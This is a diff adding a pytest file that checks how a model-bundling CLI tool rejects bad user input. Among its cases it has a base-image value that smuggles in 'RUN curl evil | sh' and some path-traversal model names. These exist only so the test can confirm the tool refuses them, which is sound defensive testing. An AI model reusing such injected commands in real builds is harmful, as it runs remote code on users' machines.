@@ -1,0 +1,169 @@
+"""Every user mistake: one line on stderr (`bundler: error: ...`), a non-zero exit, no
+traceback, and nothing written (no bundle, no temporary tree, no new registry version).
+
+Each case is (id, setup, command, exit code, text the message must contain). `setup`
+prepares a valid project and then breaks one thing; `command` runs in its folder with a
+registry that already holds `m:1`.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+GOOD_SCRIPT = "def init():\n    pass\n\ndef run(raw):\n    return raw\n"
+SAVE = ["save", "out", "--model", "m", "--entry-script", "score.py"]
+
+
+def write(path: Path, text: str | bytes) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(text if isinstance(text, bytes) else text.encode())
+
+
+def toml(text):
+    return lambda p: write(p / "bundler.toml", text)
+
+
+def script(text):
+    return lambda p: write(p / "score.py", text)
+
+
+def nothing(p):
+    return None
+
+
+def symlink_out_of_source(p):
+    write(p / "src" / "score.py", GOOD_SCRIPT)
+    write(p / "outside.txt", "secret")
+    os.symlink(p / "outside.txt", p / "src" / "link.txt")
+
+
+def symlink_out_of_model(p):
+    write(p / "modeldir" / "w.bin", "w")
+    write(p / "elsewhere.bin", "x")
+    os.symlink(p / "elsewhere.bin", p / "modeldir" / "link.bin")
+
+
+CASES = [
+    # CLI flags
+    ("unknown flag", nothing, ["save", "out", "--modle", "m"], 2, "No such option '--modle'"),
+    ("unknown command", nothing, ["sve"], 2, "No such command 'sve'"),
+    ("register without --name", nothing, ["register", "model.bin"], 2, "Missing option '--name'"),
+    ("register a missing path", nothing, ["register", "nope.bin", "--name", "x"], 2, "no such file or directory"),
+    ("register a bad tag", nothing, ["register", "model.bin", "--name", "x", "--tag", "novalue"], 2, "KEY=VALUE"),
+    ("port flag out of range", nothing, ["serve", "out", "--port", "70000"], 2, "70000 is not in the range"),
+    # bundler.toml
+    ("toml syntax error", toml('models = ["m"\n[inference]\n'), ["save", "out"], 2, "invalid TOML"),
+    ("toml unknown key", toml('models = ["m"]\n[inference]\nentry_scirpt = "score.py"\n'), ["save", "out"], 2,
+     "did you mean 'entry_script'?"),
+    ("toml wrong type", toml('models = "m"\n'), ["save", "out"], 2, "'models' must be a list, not a string"),
+    ("toml binary garbage", lambda p: write(p / "bundler.toml", b"\x00\xff\xfe garbage"), ["save", "out"], 2,
+     "not a text file"),
+    ("toml missing --config", nothing, ["save", "out", "--config", "missing.toml"], 2, "missing.toml not found"),
+    ("toml password", toml('models = ["m"]\n[registry]\npassword = "hunter2"\n'), ["save", "out"], 2,
+     "password_env"),
+    ("toml port out of range", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nport = 0\n'),
+     ["save", "out"], 2, "port must be between 1 and 65535"),
+    ("toml unknown engine", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n[server]\nengine = "x"\n'),
+     ["save", "out"], 2, "engine must be one of"),
+    ("toml conda not yet", toml('models = ["m"]\n[inference]\nentry_script = "score.py"\n'
+                                '[environment]\nconda_file = "score.py"\n'), ["save", "out"], 2, "not supported yet"),
+    # entry script
+    ("entry script missing", nothing, [*SAVE[:4], "--entry-script", "absent.py"], 2, "absent.py not found"),
+    ("entry script is a folder", lambda p: (p / "folder.py").mkdir(), [*SAVE[:4], "--entry-script", "folder.py"], 2,
+     "is not a file"),
+    ("entry script syntax error", script("def init(:\n"), SAVE, 2, "score.py:1: entry script has a syntax error"),
+    ("entry script without run", script("def init():\n    pass\n"), SAVE, 2, "no top-level run()"),
+    ("entry script without init", script("def run(raw):\n    return raw\n"), SAVE, 2, "no top-level init()"),
+    ("entry script is binary", script(b"\x00\x01\x02"), SAVE, 2, "score.py"),
+    ("raw-http script forced onto bundler engine",
+     lambda p: (write(p / "score.py", "from azureml.contrib.services.aml_request import rawhttp\n" + GOOD_SCRIPT),
+                write(p / "bundler.toml", '[server]\nengine = "bundler"\n')),
+     SAVE, 2, 'engine = "azureml"'),
+    # model references and registry names
+    ("unknown model", nothing, ["save", "out", "--model", "nosuch", "--entry-script", "score.py"], 2,
+     "model 'nosuch' is not registered"),
+    ("unknown version", nothing, ["save", "out", "--model", "m:9", "--entry-script", "score.py"], 2,
+     "has no version 9"),
+    ("malformed reference", nothing, ["save", "out", "--model", "m:1:2", "--entry-script", "score.py"], 2,
+     "invalid model reference"),
+    ("path-like reference", nothing, ["save", "out", "--model", "../../etc:1", "--entry-script", "score.py"], 2,
+     "invalid model name"),
+    ("path-like register name", nothing, ["register", "model.bin", "--name", "../escape"], 2, "invalid model name"),
+    ("show unknown model", nothing, ["models", "show", "ghost"], 2, "model 'ghost' is not registered"),
+    # sources
+    ("symlink out of the source directory", symlink_out_of_source,
+     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"], 2,
+     "outside the source directory"),
+    ("symlink out of the model folder", symlink_out_of_model, ["register", "modeldir", "--name", "linked"], 2,
+     "outside"),
+    ("entry script outside the source directory", lambda p: write(p / "src" / "x.py", "x = 1\n"),
+     ["save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "../score.py"], 2,
+     "must be inside the source directory"),
+    ("source directory missing", nothing,
+     ["save", "out", "--model", "m", "--source-dir", "nowhere", "--entry-script", "score.py"], 2, "not found"),
+    # environment files, base image, registry
+    ("requirements missing", nothing, [*SAVE, "--requirements", "reqs.txt"], 2, "requirements file"),
+    ("base image injection", nothing, [*SAVE, "--base-image", "python:3.11\nRUN curl evil | sh"], 2,
+     "not an image reference"),
+    ("registry address mismatch", toml('[registry]\naddress = "other.io"\nusername = "u"\npassword_env = "P"\n'),
+     SAVE, 2, "not where the base image"),
+    ("password_env holding a password", toml('[registry]\naddress = "docker.io"\nusername = "u"\n'
+                                             'password_env = "hunter2!"\n'), SAVE, 2, "NAME of an environment variable"),
+    # output paths and bundles
+    ("output is a file", lambda p: write(p / "out", "a file"), SAVE, 1, "is not a folder"),
+    ("output is somebody's folder", lambda p: write(p / "out" / "thesis.tex", "work"), SAVE, 1, "not a bundle"),
+    ("verify a non-bundle", lambda p: (p / "out").mkdir(), ["verify", "out"], 1, "is not a bundle"),
+    ("serve a non-bundle", lambda p: (p / "out").mkdir(), ["serve", "out"], 1, "is not a bundle"),
+]
+
+
+@pytest.fixture(scope="module")
+def registry(tmp_path_factory):
+    home = tmp_path_factory.mktemp("home")
+    model = home / "model.bin"
+    model.write_bytes(b"weights")
+    done = subprocess.run([sys.executable, "-m", "bundler", "register", str(model), "--name", "m", "--home", str(home)],
+                          capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    return home
+
+
+def registry_state(home: Path) -> list[str]:
+    return sorted(p.relative_to(home).as_posix() for p in home.rglob("*") if p.is_file() and "tmp" not in p.parts)
+
+
+def test_there_are_at_least_25_cases():
+    assert len(CASES) >= 25 and len({c[0] for c in CASES}) == len(CASES)
+
+
+@pytest.mark.parametrize("name, setup, command, code, expected", CASES, ids=[c[0] for c in CASES])
+def test_bad_input(tmp_path, registry, name, setup, command, code, expected):
+    write(tmp_path / "score.py", GOOD_SCRIPT)
+    write(tmp_path / "model.bin", "weights")
+    setup(tmp_path)
+    before_tree = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*"))
+    before_registry = registry_state(registry)
+    env = {**os.environ, "BUNDLER_HOME": str(registry)}
+    done = subprocess.run([sys.executable, "-m", "bundler", *command], cwd=tmp_path, env=env,
+                          capture_output=True, text=True, timeout=60)
+    lines = done.stderr.splitlines()
+    assert done.returncode == code, done.stderr
+    assert len(lines) == 1 and lines[0].startswith("bundler: error: "), done.stderr
+    assert expected in lines[0]
+    assert "Traceback" not in done.stderr + done.stdout
+    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == before_tree
+    assert registry_state(registry) == before_registry
+
+
+def test_debug_shows_the_traceback(tmp_path, registry):
+    write(tmp_path / "score.py", GOOD_SCRIPT)
+    env = {**os.environ, "BUNDLER_HOME": str(registry)}
+    done = subprocess.run([sys.executable, "-m", "bundler", "--debug", "save", "out", "--model", "ghost",
+                           "--entry-script", "score.py"], cwd=tmp_path, env=env, capture_output=True, text=True)
+    assert done.returncode != 0
+    assert "Traceback (most recent call last)" in done.stderr and "ModelNotFound" in done.stderr
